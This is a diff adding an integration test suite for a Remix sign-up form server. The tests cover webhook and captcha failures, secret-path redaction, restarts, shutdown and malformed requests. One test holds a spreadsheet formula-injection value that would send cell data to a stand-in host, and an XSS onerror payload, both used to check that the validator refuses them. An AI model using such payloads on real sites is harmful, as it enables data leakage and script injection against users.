@@ -1,0 +1,420 @@
+import { spawn } from "node:child_process";
+import { request as httpRequest } from "node:http";
+import { connect } from "node:net";
+import { mkdtemp, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { freePort, SERVE_COMMAND, startApp, type RunningApp } from "../harness/app-server";
+import { solveQuestion } from "../harness/question-solver";
+import { afterMinimumTime, pageFields, pageTokens, postSignup, signUp as send } from "../harness/signup-client";
+import { WEBHOOK_PATH } from "../harness/stand-in";
+import { waitForOk } from "../harness/wait";
+import { builtServerSuite, SUITE_SECRET } from "./suite";
+
+/**
+ * Faults met by the built server started as `npm start` starts it (remix-serve,
+ * its fetch polyfill, its express pipeline): a bad webhook or siteverify, a
+ * restart, a stop, odd requests. Module-level tests cannot find these: vitest
+ * runs with Node's own fetch.
+ */
+
+const FAILURE_TITLE = "Falha ao enviar";
+const FALLBACK = "Não foi possível enviar seu cadastro agora. Tente novamente.";
+
+const { standIn, start, visitor } = builtServerSuite();
+
+/** A sign-up as the enhanced form sends it, answered as JSON. */
+function signUp(app: RunningApp, email: string, extra: Record<string, string> = {}) {
+  return send(app.origin, { ...visitor(), email, hcaptchaToken: `token-${email}`, ...extra });
+}
+
+/** A raw POST of the form whose body is sent in pieces; `answer` is all the server wrote before closing. */
+function openUpload(app: RunningApp, length: number) {
+  const socket = connect(Number(new URL(app.origin).port), "127.0.0.1");
+  socket.write(
+    "POST /?index&_data=routes%2F_index HTTP/1.1\r\nHost: 127.0.0.1\r\n" +
+      `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${length}\r\nConnection: close\r\n\r\n`,
+  );
+  let received = "";
+  socket.on("data", (chunk) => (received += chunk));
+  const answer = new Promise<string>((resolve) => {
+    socket.once("close", () => resolve(received));
+    socket.once("error", () => undefined);
+  });
+  const send = (text: string) =>
+    new Promise<void>((resolve) => (socket.destroyed ? resolve() : socket.write(text, () => resolve())));
+  return { send, answer };
+}
+
+const sortedRelays = () => standIn.relayedEmails().sort();
+
+describe("an outgoing call that stalls never takes the server down", () => {
+  it("a webhook that never answers gets its visitor 'Falha ao enviar' while ten sign-ups during the stall succeed", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    standIn.webhook = { status: 200, delayMs: 60_000 };
+    const stalled = signUp(app, "lenta@exemplo.com.br");
+    await standIn.arrived("webhook");
+    standIn.webhook = { status: 200, text: "ok", delayMs: 800 };
+    const others = Array.from({ length: 10 }, (_, index) => signUp(app, `pessoa${index}@exemplo.com.br`));
+    for (const answer of await Promise.all(others)) expect(answer.status).toBe(200);
+
+    const stalledAnswer = await stalled;
+    expect(stalledAnswer.status).toBe(502);
+    expect(stalledAnswer.result.notice).toEqual({ title: FAILURE_TITLE, description: FALLBACK });
+    expect(stalledAnswer.result.email).toBe("lenta@exemplo.com.br");
+
+    expect((await fetch(`${app.origin}/healthz`)).status).toBe(200);
+    expect((await signUp(app, "depois@exemplo.com.br")).status).toBe(200);
+    expect(app.process.exitCode).toBeNull();
+    expect(sortedRelays()).toEqual(
+      [
+        "depois@exemplo.com.br",
+        "lenta@exemplo.com.br",
+        ...Array.from({ length: 10 }, (_, i) => `pessoa${i}@exemplo.com.br`),
+      ].sort(),
+    );
+    expect(app.output()).not.toContain("unexpected-error");
+  });
+
+  it("a siteverify that never answers gets its visitor 'Falha ao enviar' and nothing relayed, while others sign up", async () => {
+    const app = await start({
+      WEBHOOK_URL: standIn.webhookUrl,
+      HCAPTCHA_SECRET: "0xsecret",
+      HCAPTCHA_VERIFY_URL: standIn.siteverifyUrl,
+    });
+    standIn.siteverify = { success: true, delayMs: 60_000 };
+    const stalled = signUp(app, "lenta@exemplo.com.br");
+    await standIn.arrived("siteverify");
+    standIn.siteverify = { success: true, delayMs: 800 };
+    const others = Array.from({ length: 5 }, (_, index) => signUp(app, `pessoa${index}@exemplo.com.br`));
+    for (const answer of await Promise.all(others)) expect(answer.status).toBe(200);
+
+    const stalledAnswer = await stalled;
+    expect(stalledAnswer.status).toBe(502);
+    expect(stalledAnswer.result.notice).toEqual({ title: FAILURE_TITLE, description: FALLBACK });
+    expect((await fetch(`${app.origin}/healthz`)).status).toBe(200);
+    expect(app.process.exitCode).toBeNull();
+    expect(sortedRelays()).toEqual(Array.from({ length: 5 }, (_, i) => `pessoa${i}@exemplo.com.br`));
+  });
+
+  it.each([
+    ["resets the connection", { status: 200, reset: true }],
+    ["answers 10 MB of error", { status: 500, bodyBytes: 10 * 1024 * 1024 }],
+    ["answers slowly, past its 5 s timeout", { status: 200, delayMs: 5_500 }],
+  ])("a webhook that %s gets 'Falha ao enviar' and the server keeps serving", async (_case, behaviour) => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    standIn.webhook = behaviour;
+    const answer = await signUp(app, "ana@exemplo.com.br");
+    expect(answer.status).toBe(502);
+    expect(answer.result.notice.title).toBe(FAILURE_TITLE);
+    expect(answer.result.notice.description.length).toBeLessThanOrEqual(260);
+    standIn.webhook = { status: 200, text: "ok" };
+    expect((await signUp(app, "bia@exemplo.com.br")).status).toBe(200);
+    expect((await fetch(`${app.origin}/healthz`)).status).toBe(200);
+  });
+});
+
+describe("the webhook's error text never shows where the webhook is", () => {
+  const secretPath = WEBHOOK_PATH.slice(1); // "hooks/c0ffee-secret-path"
+
+  it.each([
+    [
+      "n8n, path without a leading slash",
+      404,
+      JSON.stringify({ code: 404, message: `The requested webhook "POST ${secretPath}" is not registered.` }),
+      'Webhook retornou 404 Not Found: The requested webhook "POST […]" is not registered.',
+    ],
+    [
+      "n8n, path with a leading slash",
+      404,
+      JSON.stringify({ code: 404, message: `The requested webhook "POST /${secretPath}" is not registered.` }),
+      'Webhook retornou 404 Not Found: The requested webhook "POST […]" is not registered.',
+    ],
+    [
+      "a URL-encoded path",
+      404,
+      `Unknown webhook ${encodeURIComponent("/" + secretPath)}`,
+      "Webhook retornou 404 Not Found: Unknown webhook […]",
+    ],
+    [
+      "Make, naming the whole URL",
+      410,
+      `{"error":"There is no scenario listening for this webhook: ${"{origin}"}${WEBHOOK_PATH}?key=1"}`,
+      "Webhook retornou 410 Gone: There is no scenario listening for this webhook: […]",
+    ],
+    [
+      "an nginx 502 page",
+      502,
+      "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n",
+      "Webhook retornou 502 Bad Gateway: 502 Bad Gateway",
+    ],
+  ])("%s", async (_case, status, text, description) => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    standIn.webhook = { status, text: text.replace("{origin}", standIn.origin) };
+    const answer = await signUp(app, "ana@exemplo.com.br");
+    expect(answer.status).toBe(502);
+    expect(answer.result.notice).toEqual({ title: FAILURE_TITLE, description });
+    const { port } = new URL(standIn.origin);
+    for (const secret of ["c0ffee", "secret-path", "hooks", "127.0.0.1", port]) {
+      expect(answer.result.notice.description).not.toContain(secret);
+    }
+  });
+});
+
+describe("restarts and stale pages", () => {
+  it("a page rendered before a restart still signs up after it, with the secret kept beside the data", async () => {
+    const data = await mkdtemp(join(tmpdir(), "restart-"));
+    const env = { WEBHOOK_URL: standIn.webhookUrl, SIGNUPS_FILE: join(data, "signups.jsonl"), SIGNUP_SECRET: "" };
+    const before = await start(env);
+    const page = await pageTokens(before.origin);
+    await before.stop();
+
+    const after = await start(env);
+    await afterMinimumTime(page);
+    const answer = await send(after.origin, { ...pageFields(page), email: "ana@exemplo.com.br", hcaptchaToken: "t-1" });
+    expect(answer.status).toBe(200);
+    expect(standIn.relayedEmails()).toEqual(["ana@exemplo.com.br"]);
+  });
+
+  it("a bot-trap timestamp that cannot be read is never a silent success: the visitor is told, and the fresh fields sent back work", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    const fields: Record<string, string> = {
+      ...visitor(),
+      from__confirm: "1795484840395.signed-by-another-secret-000000000000000000000",
+      email: "ana@exemplo.com.br",
+      hcaptchaToken: "t-1",
+    };
+    const { status, result } = await send(app.origin, fields);
+    expect(status).toBe(400);
+    expect(result.notice).toEqual({
+      title: "Página desatualizada",
+      description:
+        "Esta página ficou aberta por muito tempo. Atualizamos o formulário: confira seu e-mail e envie de novo (ou recarregue a página).",
+    });
+    expect(result.email).toBe("ana@exemplo.com.br");
+    expect(standIn.received.webhook).toHaveLength(0);
+
+    const again = await send(app.origin, { ...fields, [result.botTrap!.validFromField]: result.botTrap!.validFrom });
+    expect(again.status).toBe(200);
+    expect(standIn.relayedEmails()).toEqual(["ana@exemplo.com.br"]);
+  });
+
+  it("without JavaScript an unanswered question is asked for by name, not as a captcha", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    const fields = { ...visitor(), email: "ana@exemplo.com.br", challengeToken: "x.1.y", challengeAnswer: "" };
+    const response = await postSignup(app.origin, fields);
+    expect(response.status).toBe(400);
+    const html = await response.text();
+    expect(html).toContain("Valide o captcha");
+    expect(html).toContain("Responda à pergunta de verificação acima para concluir o cadastro.");
+    expect(html).not.toContain("Confirme que você não é um robô resolvendo o captcha.");
+  });
+});
+
+describe("e-mails that must not pass, against the built server", () => {
+  it("the NFD and NFC spellings of one address, sent with one captcha token, are one sign-up relayed in NFC", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    const decomposed = "joa\u0303o@exemplo.com.br";
+    const composed = "jo\u00e3o@exemplo.com.br";
+    expect((await signUp(app, decomposed, { hcaptchaToken: "t-joao" })).status).toBe(200);
+    expect((await signUp(app, composed, { hcaptchaToken: "t-joao" })).status).toBe(200);
+    expect(standIn.relayedEmails()).toEqual([composed]);
+  });
+
+  it.each([
+    '=HYPERLINK("http://x/?d="&A1,"Clique")@exemplo.com.br',
+    "<img/src=x/onerror=alert(1)>@exemplo.com.br",
+    "ana\u034F@exemplo.com.br",
+    "ana\u3164@exemplo.com.br",
+  ])("%j is refused with 'E-mail inválido' and never reaches the automation", async (address) => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    const answer = await signUp(app, address);
+    expect(answer.status).toBe(400);
+    expect(answer.result.notice).toEqual({
+      title: "E-mail inválido",
+      description: "Por favor, informe um e-mail válido.",
+    });
+    expect(answer.result.email).toBe(address);
+    expect(standIn.received.webhook).toHaveLength(0);
+  });
+});
+
+describe("stopping", () => {
+  it("SIGTERM lets a sign-up in flight finish and be answered, then exits 0", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    standIn.webhook = { status: 200, text: "ok", delayMs: 4_000 };
+    const pending = signUp(app, "ana@exemplo.com.br");
+    await standIn.arrived("webhook");
+    const exitCode = app.stop();
+    const answer = await pending;
+    expect(answer.status).toBe(200);
+    expect(await exitCode).toBe(0);
+  });
+
+  it("a webhook slower than any stop could wait for is timed out and answered before the process exits", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    standIn.webhook = { status: 200, text: "ok", delayMs: 9_500 };
+    const pending = signUp(app, "ana@exemplo.com.br");
+    await standIn.arrived("webhook");
+    const exitCode = app.stop();
+    const answer = await pending;
+    expect(answer.status).toBe(502);
+    expect(answer.result.notice).toEqual({ title: FAILURE_TITLE, description: FALLBACK });
+    expect(await exitCode).toBe(0);
+  });
+
+  it("a visitor still uploading when a stop begins is not waited for: nothing is relayed, so a retry cannot relay twice", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    standIn.webhook = { status: 200, text: "ok", delayMs: 2_000 };
+    const body = new URLSearchParams({
+      ...visitor(),
+      email: "lenta@exemplo.com.br",
+      hcaptchaToken: "P1_slow-upload",
+    }).toString();
+    const upload = openUpload(app, body.length);
+    await upload.send(body.slice(0, 10));
+    const exitCode = app.stop();
+    // The stop counts no sign-up in flight: the upload was never admitted, so nothing waits for it.
+    await app.printed(/"event":"shutdown","signal":"SIGTERM","signupsInFlight":0/);
+    expect(await exitCode).toBe(0);
+    // The rest arrives only once the process has exited.
+    await upload.send(body.slice(10));
+    const answer = await upload.answer;
+    expect(answer).not.toMatch(/^HTTP\/1\.1 200/);
+    expect(standIn.received.webhook).toHaveLength(0);
+  });
+
+  it("a body that stalls is answered 408 and not waited for", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    const upload = openUpload(app, 100);
+    await upload.send("email=ana");
+    expect(await upload.answer).toMatch(/^HTTP\/1\.1 408/);
+    expect(standIn.received.webhook).toHaveLength(0);
+  }, 30_000);
+
+  it("refuses at start-up, in one line, several instances that could not sign forms alike", async () => {
+    await expect(startApp({ REDIS_URL: "redis://127.0.0.1:6379", SIGNUP_SECRET: "" })).rejects.toThrowError(
+      /exited with 1:\nInvalid configuration: SIGNUP_SECRET must be set when REDIS_URL is/,
+    );
+  });
+});
+
+describe("a visitor without JavaScript who answers again at once", () => {
+  /** The value of a form field in the page the server sent. */
+  function fieldValue(html: string, name: string): string {
+    const input = new RegExp(`<input[^>]*name="${name}"[^>]*>`).exec(html)?.[0] ?? "";
+    return /value="([^"]*)"/.exec(input)?.[1]?.replace(/&amp;/g, "&") ?? "";
+  }
+
+  it("is signed up, not taken for a bot, when the new question is answered within the minimum time", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    const page = await pageTokens(app.origin);
+    await afterMinimumTime(page);
+    const wrong = await postSignup(app.origin, {
+      ...pageFields(page),
+      email: "rapida@exemplo.com.br",
+      challengeToken: page.question!.token,
+      challengeAnswer: "99",
+    });
+    const html = await wrong.text();
+    expect(wrong.status).toBe(400);
+    expect(html).toContain("Resposta incorreta");
+    const question = /Quanto é [^?]+\?/.exec(html)![0];
+    // Pressed again at once, with what the page now holds.
+    const again = await postSignup(app.origin, {
+      name__confirm: "",
+      from__confirm: fieldValue(html, "from__confirm"),
+      email: fieldValue(html, "email"),
+      challengeToken: fieldValue(html, "challengeToken"),
+      challengeAnswer: String(solveQuestion(question)),
+    });
+    expect(again.status).toBe(200);
+    expect(await again.text()).toContain("Cadastro realizado!");
+    expect(standIn.relayedEmails()).toEqual(["rapida@exemplo.com.br"]);
+  });
+});
+
+describe("a log that cannot be written any more", () => {
+  /** 20 probes and a sign-up: all must be answered as usual. */
+  async function stillServes(origin: string): Promise<number[]> {
+    const statuses: number[] = [];
+    for (let index = 0; index < 20; index++) statuses.push((await fetch(`${origin}/healthz`)).status);
+    statuses.push((await send(origin, { ...visitor(), email: "log@exemplo.com.br", hcaptchaToken: "P1_log" })).status);
+    return statuses;
+  }
+
+  it("its reader gone (EPIPE): the server loses log lines, not its answers", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    app.process.stdout!.destroy();
+    app.process.stderr!.destroy();
+    expect(await stillServes(app.origin)).toEqual([...Array<number>(20).fill(200), 200]);
+    expect(app.process.exitCode).toBeNull();
+    expect(standIn.received.webhook).toHaveLength(1);
+  });
+
+  it("its disk full (EFBIG): the server loses log lines, not its answers", async () => {
+    const folder = await mkdtemp(join(tmpdir(), "full-log-"));
+    const port = await freePort();
+    const [node, ...args] = SERVE_COMMAND;
+    // The log may not grow at all: its first line already fails.
+    const child = spawn("bash", ["-c", `ulimit -f 0 && exec "$@" > "${folder}/app.log" 2>&1`, "bash", node!, ...args], {
+      env: {
+        PATH: process.env.PATH ?? "",
+        NODE_ENV: "production",
+        HOST: "127.0.0.1",
+        PORT: String(port),
+        WEBHOOK_URL: standIn.webhookUrl,
+        SIGNUP_SECRET: SUITE_SECRET,
+      },
+      stdio: "ignore",
+    });
+    try {
+      const origin = `http://127.0.0.1:${port}`;
+      await waitForOk(`${origin}/healthz`);
+      expect(await stillServes(origin)).toEqual([...Array<number>(20).fill(200), 200]);
+      expect(child.exitCode).toBeNull();
+    } finally {
+      child.kill("SIGTERM");
+    }
+  });
+});
+
+describe("how the server is started and odd requests", () => {
+  function rawRequest(app: RunningApp, method: string): Promise<{ status: number; allow: string | undefined }> {
+    return new Promise((resolve, reject) => {
+      const request = httpRequest(`${app.origin}/`, { method }, (response) => {
+        response.resume();
+        resolve({ status: response.statusCode ?? 0, allow: response.headers.allow });
+      });
+      request.on("error", reject);
+      request.end();
+    });
+  }
+
+  it.each(["TRACE", "PUT", "DELETE", "PROPFIND"])("%s / is answered 405 without a stack trace", async (method) => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl });
+    expect(await rawRequest(app, method)).toEqual({ status: 405, allow: "GET, HEAD, POST" });
+    expect((await fetch(`${app.origin}/healthz`)).status).toBe(200);
+    expect(app.output()).not.toMatch(/\n\s+at /);
+  });
+
+  it("works when started from another working directory", async () => {
+    const elsewhere = await mkdtemp(join(tmpdir(), "cwd-"));
+    await writeFile(join(elsewhere, "package.json"), "{}");
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl }, { cwd: elsewhere });
+    const page = await fetch(`${app.origin}/`);
+    expect(page.status).toBe(200);
+    const html = await page.text();
+    const script = /<link rel="modulepreload" href="(\/build\/[^"]+\.js)"/.exec(html)?.[1];
+    expect(script).toBeTruthy();
+    expect((await fetch(`${app.origin}${script}`)).status).toBe(200);
+    expect((await fetch(`${app.origin}/robots.txt`)).status).toBe(200);
+  });
+
+  it("an empty PORT means unset: it listens on 3000", async () => {
+    const app = await start({ WEBHOOK_URL: standIn.webhookUrl, PORT: "" }, { expectPort: 3000 });
+    expect(app.origin).toBe("http://127.0.0.1:3000");
+    expect(app.output()).toContain('"event":"listening","port":3000');
+  });
+});
